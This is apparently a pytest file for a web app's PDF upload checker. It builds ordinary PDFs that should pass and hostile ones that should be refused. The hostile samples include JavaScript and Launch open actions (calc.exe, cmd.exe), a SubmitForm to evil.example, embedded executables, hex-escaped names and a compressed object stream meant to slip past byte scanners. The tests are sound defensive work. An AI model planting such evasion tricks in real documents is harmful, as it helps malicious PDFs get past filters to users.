"""Evidence PDFs are parsed (pypdf), not scanned for bytes: scripts, launch actions and
embedded files are refused however their names are written; encrypted and broken
files are refused; ordinary PDFs pass."""

import io

import pytest

from app.services import files
from app.services.files import RejectedFile


def build_pdf(catalog_extra: bytes = b"", *extra_objects: bytes, page_extra: bytes = b"") -> bytes:
    """A PDF with a correct cross-reference table: catalog (1), pages (2), one page (3),
    then ``extra_objects`` as objects 4, 5, ..."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog_extra + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<<>>" + page_extra + b">>",
        *extra_objects,
    ]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return out


def stream(dictionary: bytes, data: bytes) -> bytes:
    return dictionary[:-2] + b"/Length %d>>\nstream\n" % len(data) + data + b"\nendstream"


def check(data: bytes):
    return files.check_upload("凭证.pdf", data)


def refused_message(data: bytes) -> str:
    with pytest.raises(RejectedFile) as refused:
        check(data)
    return str(refused.value)


SCRIPT = "含有脚本或嵌入文件"


# ------------------------------------------------------------------ accepted
def test_an_ordinary_pdf_passes(app):
    assert check(build_pdf()).content_type == "application/pdf"


def test_a_pdf_written_by_pypdf_with_text_links_and_metadata_passes(app):
    from pypdf import PdfWriter
    from pypdf.annotations import Link

    writer = PdfWriter()
    writer.add_blank_page(300, 300)
    writer.add_blank_page(300, 300)
    writer.add_metadata({"/Title": "三方协议"})
    writer.add_annotation(0, Link(rect=(10, 10, 100, 30), target_page_index=1))
    writer.add_annotation(0, Link(rect=(10, 40, 100, 60), url="https://example.org/"))
    buffer = io.BytesIO()
    writer.write(buffer)
    assert check(buffer.getvalue()).content_type == "application/pdf"


def test_an_open_action_that_only_shows_a_page_passes(app):
    assert check(build_pdf(b"/OpenAction[3 0 R/Fit]"))


# ------------------------------------------------------------------ refused
@pytest.mark.parametrize(
    "catalog_extra",
    [
        b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
        # hex-escaped names, as the issue found: a byte scan misses every one
        b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>",
        b"/O#70enAction<</S/#4A#61#76#61#53#63#72#69#70#74/#4a#53(app.alert(1))>>",
        b"/OpenAction<</S/Launch/F(calc.exe)>>",
        b"/OpenAction<</S/L#61unch/Win<</F(cmd.exe)>>>>",
        b"/OpenAction<</S/SubmitForm/F(https://evil.example/)>>",
        b"/OpenAction<</S/ImportData/F(x.fdf)>>",
        b"/OpenAction<</S/GoToR/F(other.pdf)/D[0/Fit]>>",
        b"/AA<</WC<</S/JavaScript/JS(x)>>>>",
        b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(x)>>]>>>>",
        b"/Names<</Embedded#46iles<</Names[(a.exe)<</Type/Filespec/F(a.exe)>>]>>>>",
        b"/AcroForm<</Fields[]/XFA(x)>>",
    ],
)
def test_scripts_and_dangerous_actions_are_refused_however_written(app, catalog_extra):
    assert SCRIPT in refused_message(build_pdf(catalog_extra))


def test_a_script_in_an_indirect_object_is_refused(app):
    data = build_pdf(
        b"/OpenAction 4 0 R", b"<</S/JavaScript/JS 5 0 R>>", stream(b"<<>>", b"app.alert(1)")
    )
    assert SCRIPT in refused_message(data)


def test_a_script_on_a_link_annotation_is_refused(app):
    annotation = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/JavaScript/JS(x)>>>>]"
    assert SCRIPT in refused_message(build_pdf(page_extra=annotation))


def test_an_embedded_file_is_refused(app):
    data = build_pdf(
        b"",
        b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
        stream(b"<</Type/EmbeddedFile>>", b"MZ\x90\x00"),
    )
    assert SCRIPT in refused_message(data)


def test_a_script_in_an_object_nobody_references_is_refused(app):
    # viewers that repair files may still find it; refuse rather than guess
    data = build_pdf(b"", b"<</S/JavaScript/JS(app.alert(1))>>")
    assert SCRIPT in refused_message(data)


def test_a_script_hidden_in_a_compressed_object_stream_is_refused(app):
    """Object 5 lives compressed inside object stream 4, listed by a cross-reference
    stream: no byte of the file spells a name, and the names are hex-escaped too."""
    import zlib

    inner = b"<</S/J#61vaScript/J#53(app.alert(1))>>"
    header = b"5 0 "
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<<>>>>",
        stream(
            b"<</Type/ObjStm/N 1/First %d/Filter/FlateDecode>>" % len(header),
            zlib.compress(header + inner),
        ),
    ]
    out = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_offset = len(out)
    rows = b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"
    rows += b"".join(b"\x01" + o.to_bytes(4, "big") + b"\x00\x00" for o in offsets)
    rows += b"\x02" + (4).to_bytes(4, "big") + b"\x00\x00"  # object 5: in stream 4, index 0
    rows += b"\x01" + xref_offset.to_bytes(4, "big") + b"\x00\x00"  # object 6: this stream
    xref = stream(
        b"<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Filter/FlateDecode>>", zlib.compress(rows)
    )
    out += b"6 0 obj\n" + xref + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    assert b"JavaScript" not in out and b"/JS" not in out
    assert SCRIPT in refused_message(out)


def test_javascript_added_by_pypdf_is_refused(app):
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    from pypdf.actions import JavaScript

    writer.add_open_action(JavaScript("app.alert('hi');"))
    buffer = io.BytesIO()
    writer.write(buffer)
    assert SCRIPT in refused_message(buffer.getvalue())


def test_an_attachment_added_by_pypdf_is_refused(app):
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_attachment("payload.exe", b"MZ\x90\x00")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert SCRIPT in refused_message(buffer.getvalue())


def test_an_encrypted_pdf_is_refused(app):
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert "已加密" in refused_message(buffer.getvalue())


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.4\nthis is not a pdf at all\n%%EOF\n",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
        build_pdf().replace(b"/Type/Catalog", b"/Type/Nothing"),
    ],
    ids=["garbage", "no cross-reference", "no catalog"],
)
def test_an_unreadable_pdf_is_refused(app, data):
    assert "已损坏" in refused_message(data)


def test_a_cut_off_pdf_is_refused(app):
    assert "不是完整的 PDF" in refused_message(build_pdf()[:-30])
